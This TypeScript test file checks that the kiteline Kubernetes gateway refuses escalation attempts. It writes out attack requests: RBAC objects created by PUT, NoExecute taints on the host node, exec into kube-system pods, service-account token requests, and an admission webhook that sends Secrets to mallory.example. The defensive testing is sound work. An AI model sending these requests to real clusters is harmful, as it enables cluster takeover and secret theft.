// Issue 32, points 7, 11 and 12, tried as attackers would through both doors (the resource routes and
// the kubectl proxy):
//   point 7:  a role with update but not create cannot create by PUT the kinds the API server creates
//             on update (RBAC objects, Leases, Endpoints, Services, ...);
//   point 11: on kiteline's host cluster, a node that runs kiteline gets no NoExecute taint and is not
//             deleted through kiteline (the same refusal as drain);
//   point 12: on the host cluster, exec/attach/port-forward into kube-system pods, TokenRequests for
//             kube-system service accounts, the kiteline.io APIServices, admission webhooks and CRDs
//             of the kiteline.io group are refused, admins included.
// Every write to the host's node or to cluster-wide objects is sent with dryRun=All, so that the run
// that shows the holes on the old code changed nothing real (except the taint route, which has no dry
// run: its taint is removed at teardown).
import t, { type Test } from 'tap';
import { kubectl, testControlPlane, uniqueName } from './helpers/clusters.js';
import { addReadyCluster, apiKeyWithRoles, bootstrapAdmin, createRole, testKubeconfig } from './helpers/fixtures.js';
import { call, startGateway, type HttpResponse } from './helpers/gateway.js';
import { wsRefusal } from './helpers/workload-streams.js';

const host = await testControlPlane('host');
const other = await testControlPlane('target-b');
const gw = await startGateway(t, { logName: 'security-guard' });
const admin = await bootstrapAdmin(gw);
await addReadyCluster(gw, admin, { name: 'h', config: testKubeconfig('host'), isDefault: true });
await addReadyCluster(gw, admin, { name: 'b', config: testKubeconfig('target-b') });

type Headers = Record<string, string>;
const send = (method: string, path: string, headers: Headers, body?: unknown, raw?: string) =>
  call(gw.url, method, path, {
    headers,
    ...(body !== undefined ? { body } : {}),
    ...(raw !== undefined ? { raw } : {}),
  });
/** Through the kubectl proxy, on a cluster. */
const proxy = (cluster: string, headers: Headers) => (method: string, path: string, body?: unknown) =>
  send(method, `/k8s/clusters/${cluster}${path}`, headers, body);
/** Through the resource routes, on a cluster. */
const routes = (cluster: string, headers: Headers) => (method: string, path: string, body?: unknown) =>
  send(method, `/api/v1${path}`, { ...headers, 'x-cluster-name': cluster }, body);
const refused = (t: Test, res: HttpResponse, what: string, message?: RegExp) => {
  t.equal(res.status, 403, `${what}: ${res.text.slice(0, 300)}`);
  if (message) t.match(res.text, message, what);
};

t.test('point 7: update without create does not create by PUT', async (t) => {
  const ns = uniqueName('cou');
  t.equal(kubectl(other.kubeconfigPath, ['create', 'namespace', ns]).status, 0);
  t.teardown(() => kubectl(other.kubeconfigPath, ['delete', 'namespace', ns, '--wait=false']));
  const ROLE = uniqueName('updater');
  await createRole(gw, admin, {
    name: ROLE,
    clusters: ['*'],
    namespaces: ['*'],
    resources: ['roles', 'rolebindings', 'leases', 'endpoints', 'services', 'configmaps', 'clusterroles'],
    verbs: ['get', 'list', 'watch', 'update', 'patch'],
  });
  const updater = await apiKeyWithRoles(gw, admin, uniqueName('updater'), [ROLE]);
  const exists = (args: string[]) => kubectl(other.kubeconfigPath, ['get', ...args]).status === 0;

  const role = (name: string) => ({
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name, namespace: ns, resourceVersion: '1' },
    rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }],
  });
  const byProxy = proxy('b', updater.headers);
  const viaRoutes = routes('b', updater.headers);

  // The kinds whose registries allow create on update (Kubernetes 1.35: pkg/registry/**/strategy.go).
  const attacks: Array<{ what: string; path: string; body: object; check: string[] }> = [
    {
      what: 'a Role',
      path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles/made-by-put`,
      body: role('made-by-put'),
      check: ['-n', ns, 'role', 'made-by-put'],
    },
    {
      what: 'a RoleBinding',
      path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings/made-by-put`,
      body: {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        metadata: { name: 'made-by-put', namespace: ns },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
        subjects: [{ kind: 'User', name: 'mallory', apiGroup: 'rbac.authorization.k8s.io' }],
      },
      check: ['-n', ns, 'rolebinding', 'made-by-put'],
    },
    {
      what: 'a Lease',
      path: `/apis/coordination.k8s.io/v1/namespaces/${ns}/leases/made-by-put`,
      body: {
        apiVersion: 'coordination.k8s.io/v1',
        kind: 'Lease',
        metadata: { name: 'made-by-put', namespace: ns },
        spec: { holderIdentity: 'mallory' },
      },
      check: ['-n', ns, 'lease', 'made-by-put'],
    },
    {
      what: 'an Endpoints',
      path: `/api/v1/namespaces/${ns}/endpoints/made-by-put`,
      body: { apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'made-by-put', namespace: ns } },
      check: ['-n', ns, 'endpoints', 'made-by-put'],
    },
    {
      what: 'a ClusterRole',
      path: `/apis/rbac.authorization.k8s.io/v1/clusterroles/${ns}-made-by-put`,
      body: {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRole',
        metadata: { name: `${ns}-made-by-put` },
        rules: [],
      },
      check: ['clusterrole', `${ns}-made-by-put`],
    },
  ];
  t.teardown(() => kubectl(other.kubeconfigPath, ['delete', 'clusterrole', `${ns}-made-by-put`, '--ignore-not-found']));
  for (const attack of attacks) {
    refused(t, await byProxy('PUT', attack.path, attack.body), `proxy PUT creating ${attack.what}`, /create/);
    t.notOk(exists(attack.check), `${attack.what} was not created through the proxy`);
  }

  // The resource routes: PUT needs a resourceVersion, which the API server ignores when it creates.
  refused(t, await viaRoutes('PUT', `/roles/${ns}/made-by-route`, role('made-by-route')), 'route PUT Role', /create/);
  t.notOk(exists(['-n', ns, 'role', 'made-by-route']), 'no Role was created through the resource routes');
  refused(
    t,
    await viaRoutes('PUT', `/leases/${ns}/made-by-route`, {
      metadata: { name: 'made-by-route', resourceVersion: '1' },
      spec: { holderIdentity: 'mallory' },
    }),
    'route PUT Lease',
    /create/,
  );
  t.notOk(exists(['-n', ns, 'lease', 'made-by-route']), 'no Lease was created through the resource routes');

  // Updates of objects that exist still work, through both doors; and whoever may create still creates by PUT.
  t.equal(
    kubectl(other.kubeconfigPath, ['-n', ns, 'create', 'role', 'existing', '--verb=get', '--resource=pods']).status,
    0,
  );
  const current = JSON.parse(kubectl(other.kubeconfigPath, ['-n', ns, 'get', 'role', 'existing', '-o', 'json']).stdout);
  current.rules[0].verbs = ['get', 'list'];
  const updated = await byProxy('PUT', `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles/existing`, current);
  t.equal(updated.status, 200, `an existing Role is updated through the proxy: ${updated.text.slice(0, 200)}`);
  updated.body.rules[0].verbs = ['get', 'list', 'watch'];
  const again = await viaRoutes('PUT', `/roles/${ns}/existing`, updated.body);
  t.equal(again.status, 200, `an existing Role is updated through the resource routes: ${again.text.slice(0, 200)}`);
  const byAdmin = await proxy('b', admin.headers)(
    'PUT',
    `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles/made-by-admin`,
    role('made-by-admin'),
  );
  t.equal(byAdmin.status, 201, `a caller who may create creates by PUT: ${byAdmin.text.slice(0, 200)}`);
});

/** The host's node, with a stand-in for kiteline's pod on it (any pod of the install namespace). */
async function kitelineOnHostNode(t: Test): Promise<string> {
  const node = host.node!.name;
  const standIn = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'kiteline-stand-in', namespace: gw.namespace },
    spec: {
      nodeName: node,
      terminationGracePeriodSeconds: 1,
      tolerations: [{ operator: 'Exists' }],
      containers: [
        { name: 'c', image: 'kiteline.local/busybox:1', imagePullPolicy: 'Never', command: ['sleep', '3600'] },
      ],
    },
  };
  t.equal(kubectl(host.kubeconfigPath, ['apply', '-f', '-'], JSON.stringify(standIn)).status, 0);
  t.teardown(() =>
    kubectl(host.kubeconfigPath, ['-n', gw.namespace, 'delete', 'pod', 'kiteline-stand-in', '--wait=false']),
  );
  return node;
}

t.test('point 11: a node running kiteline on its host gets no NoExecute taint and is not deleted', async (t) => {
  const node = await kitelineOnHostNode(t);
  const taintKey = `kiteline.test/${uniqueName('evict')}`;
  t.teardown(() => kubectl(host.kubeconfigPath, ['taint', 'node', node, `${taintKey}-`]));
  const taints = (): Array<{ key: string; effect: string }> =>
    JSON.parse(kubectl(host.kubeconfigPath, ['get', 'node', node, '-o', 'json']).stdout).spec.taints ?? [];
  const viaRoutes = routes('h', admin.headers);
  const byProxy = proxy('h', admin.headers);
  const RUNS_KITELINE = /runs kiteline itself/;

  // Kite's taint action.
  refused(
    t,
    await viaRoutes('POST', `/nodes/_all/${node}/taint`, { key: taintKey, value: 'x', effect: 'NoExecute' }),
    'taint NoExecute',
    RUNS_KITELINE,
  );
  t.notOk(
    taints().some((taint) => taint.key === taintKey),
    'the node carries no NoExecute taint',
  );

  // The resource routes: a merge patch, a JSON patch and a replace that add one.
  const noExecute = { key: taintKey, value: 'x', effect: 'NoExecute' };
  refused(
    t,
    await send(
      'PATCH',
      `/api/v1/nodes/_all/${node}?dryRun=All&patchType=merge`,
      { ...admin.headers, 'x-cluster-name': 'h', 'content-type': 'application/merge-patch+json' },
      undefined,
      JSON.stringify({ spec: { taints: [...taints(), noExecute] } }),
    ),
    'route merge patch adding NoExecute',
    RUNS_KITELINE,
  );
  refused(
    t,
    await send(
      'PATCH',
      `/api/v1/nodes/_all/${node}?dryRun=All&patchType=json`,
      { ...admin.headers, 'x-cluster-name': 'h', 'content-type': 'application/json-patch+json' },
      undefined,
      JSON.stringify([{ op: 'add', path: '/spec/taints', value: [...taints(), noExecute] }]),
    ),
    'route JSON patch adding NoExecute',
    RUNS_KITELINE,
  );
  const object = JSON.parse(kubectl(host.kubeconfigPath, ['get', 'node', node, '-o', 'json']).stdout);
  object.spec.taints = [...(object.spec.taints ?? []), noExecute];
  refused(
    t,
    await viaRoutes('PUT', `/nodes/_all/${node}?dryRun=All`, object),
    'route PUT adding NoExecute',
    RUNS_KITELINE,
  );
  refused(t, await viaRoutes('DELETE', `/nodes/_all/${node}?dryRun=All`), 'route DELETE of the node', RUNS_KITELINE);
  // A label is no eviction: still fine (dry run).
  const label = await send(
    'PATCH',
    `/api/v1/nodes/_all/${node}?dryRun=All&patchType=merge`,
    { ...admin.headers, 'x-cluster-name': 'h', 'content-type': 'application/merge-patch+json' },
    undefined,
    JSON.stringify({ metadata: { labels: { 'kiteline.test/harmless': 'yes' } } }),
  );
  t.equal(label.status, 200, `a harmless patch of the node passes: ${label.text.slice(0, 200)}`);

  // The proxy reads no bodies: the node is read-only through it, deleting all nodes is refused.
  t.equal((await byProxy('GET', `/api/v1/nodes/${node}`)).status, 200, 'the node is read through the proxy');
  refused(t, await byProxy('DELETE', `/api/v1/nodes/${node}?dryRun=All`), 'proxy DELETE of the node', RUNS_KITELINE);
  refused(
    t,
    await send(
      'PATCH',
      `/k8s/clusters/h/api/v1/nodes/${node}?dryRun=All`,
      { ...admin.headers, 'content-type': 'application/merge-patch+json' },
      undefined,
      JSON.stringify({ spec: { taints: [...taints(), noExecute] } }),
    ),
    'proxy PATCH of the node',
    RUNS_KITELINE,
  );
  refused(t, await byProxy('DELETE', '/api/v1/nodes?dryRun=All'), 'proxy DELETE of every node');
  t.notOk(
    taints().some((taint) => taint.key === taintKey),
    'the node still carries no NoExecute taint',
  );
  t.equal(kubectl(host.kubeconfigPath, ['get', 'node', node]).status, 0, 'the node is still there');
});

t.test("point 12: the host's control plane, tokens and extension points are refused", async (t) => {
  const byProxy = proxy('h', admin.headers);
  const viaRoutes = routes('h', admin.headers);
  const HOST = /host cluster/;

  // exec, attach and port-forward into kube-system pods (etcd's static pod reads the session key's Secret).
  for (const sub of [
    'exec?command=cat&command=/etc/hostname&stdout=true',
    'attach?stdout=true',
    'portforward?ports=2379',
  ]) {
    refused(t, await byProxy('POST', `/api/v1/namespaces/kube-system/pods/etcd-stand-in/${sub}`), `proxy ${sub}`, HOST);
    refused(
      t,
      await byProxy('GET', `/api/v1/namespaces/kube-system/pods/etcd-stand-in/${sub}`),
      `proxy GET ${sub}`,
      HOST,
    );
  }
  t.equal(
    await wsRefusal(
      `${gw.url.replace(/^http/, 'ws')}/api/v1/terminal/kube-system/etcd-stand-in/ws?x-cluster-name=h`,
      admin.headers,
    ),
    403,
    "Kite's terminal into kube-system",
  );
  refused(
    t,
    await send(
      'PATCH',
      '/api/v1/pods/kube-system/etcd-stand-in/ephemeralcontainers?x-cluster-name=h',
      { ...admin.headers, 'content-type': 'application/strategic-merge-patch+json' },
      undefined,
      JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debug', image: 'kiteline.local/busybox:1' }] } }),
    ),
    'an ephemeral container in kube-system',
    HOST,
  );

  // TokenRequest for a kube-system service account (a token of the controllers' accounts is cluster-admin).
  const tokenRequest = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
  const token = await byProxy('POST', '/api/v1/namespaces/kube-system/serviceaccounts/default/token', tokenRequest);
  refused(t, token, 'TokenRequest in kube-system', HOST);
  t.notMatch(token.text, /"token"/, 'no token was handed out');

  // The APIServices of kiteline.io: whoever points one at a service of their own serves kiteline its users.
  const APISERVICE = '/apis/apiregistration.k8s.io/v1/apiservices';
  refused(
    t,
    await send(
      'PATCH',
      `/k8s/clusters/h${APISERVICE}/v1alpha1.kiteline.io?dryRun=All`,
      { ...admin.headers, 'content-type': 'application/merge-patch+json' },
      undefined,
      JSON.stringify({ spec: { service: { namespace: 'default', name: 'mallory' } } }),
    ),
    'proxy PATCH of v1alpha1.kiteline.io',
  );
  refused(t, await byProxy('DELETE', `${APISERVICE}/v1alpha1.kiteline.io?dryRun=All`), 'proxy DELETE of it');
  refused(t, await viaRoutes('DELETE', '/apiservices/_all/v1alpha1.kiteline.io?dryRun=All'), 'route DELETE of it');
  const apiService = (version: string, group: string) => ({
    apiVersion: 'apiregistration.k8s.io/v1',
    kind: 'APIService',
    metadata: { name: `${version}.${group}` },
    spec: {
      group,
      version,
      groupPriorityMinimum: 1000,
      versionPriority: 15,
      insecureSkipTLSVerify: true,
      service: { namespace: 'default', name: 'mallory' },
    },
  });
  refused(t, await byProxy('POST', `${APISERVICE}?dryRun=All`, apiService('v1beta1', 'kiteline.io')), 'proxy POST');

  // Admission webhooks (they are sent every object they match: kiteline's Secrets, its users).
  const webhook = (kind: string) => ({
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind,
    metadata: { name: uniqueName('secrets-watcher') },
    webhooks: [
      {
        name: 'secrets.mallory.example',
        admissionReviewVersions: ['v1'],
        sideEffects: 'None',
        clientConfig: { url: 'https://mallory.example/review' },
        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE', 'UPDATE'], resources: ['secrets'] }],
      },
    ],
  });
  const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
  refused(
    t,
    await byProxy(
      'POST',
      `${ADMISSION}/validatingwebhookconfigurations?dryRun=All`,
      webhook('ValidatingWebhookConfiguration'),
    ),
    'proxy POST of a validating webhook',
    HOST,
  );
  refused(
    t,
    await byProxy(
      'POST',
      `${ADMISSION}/mutatingwebhookconfigurations?dryRun=All`,
      webhook('MutatingWebhookConfiguration'),
    ),
    'proxy POST of a mutating webhook',
    HOST,
  );
  refused(
    t,
    await viaRoutes('POST', '/mutatingwebhookconfigurations/_all?dryRun=All', webhook('MutatingWebhookConfiguration')),
    'route POST of a mutating webhook',
    HOST,
  );

  // CRDs of the kiteline.io group, by name (the proxy reads the body of such a create on the host).
  const crd = (group: string, plural: string) => ({
    apiVersion: 'apiextensions.k8s.io/v1',
    kind: 'CustomResourceDefinition',
    metadata: { name: `${plural}.${group}` },
    spec: {
      group,
      scope: 'Namespaced',
      names: { plural, singular: plural.slice(0, -1), kind: 'Gadget' },
      versions: [
        {
          name: 'v1',
          served: true,
          storage: true,
          schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
        },
      ],
    },
  });
  const CRDS = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
  refused(
    t,
    await byProxy('POST', `${CRDS}?dryRun=All`, crd('kiteline.io', 'gadgets')),
    'proxy POST of a kiteline.io CRD',
    HOST,
  );
  const yamlCrd = await send(
    'POST',
    `/k8s/clusters/h${CRDS}?dryRun=All`,
    { ...admin.headers, 'content-type': 'application/yaml' },
    undefined,
    JSON.stringify(crd('sub.kiteline.io', 'gadgets')), // JSON is YAML
  );
  refused(t, yamlCrd, 'proxy POST of a kiteline.io CRD as YAML', HOST);
  const protobuf = await send(
    'POST',
    `/k8s/clusters/h${CRDS}?dryRun=All`,
    { ...admin.headers, 'content-type': 'application/vnd.kubernetes.protobuf' },
    undefined,
    'k8s\u0000',
  );
  t.equal(protobuf.status, 415, `a body kiteline cannot read is refused: ${protobuf.text.slice(0, 200)}`);

  // What stays open: the same on another cluster, and a CRD of another group on the host.
  const elsewhere = await proxy('b', admin.headers)(
    'POST',
    '/api/v1/namespaces/kube-system/serviceaccounts/default/token',
    tokenRequest,
  );
  t.equal(elsewhere.status, 201, `a TokenRequest on another cluster passes: ${elsewhere.text.slice(0, 100)}`);
  const otherGroup = await byProxy('POST', `${CRDS}?dryRun=All`, crd(`${uniqueName('g')}.example.test`, 'gadgets'));
  t.equal(otherGroup.status, 201, `a CRD of another group passes: ${otherGroup.text.slice(0, 200)}`);
  const readApiService = await byProxy('GET', `${APISERVICE}/v1alpha1.kiteline.io`);
  t.equal(readApiService.status, 200, 'the APIService is still read');
});
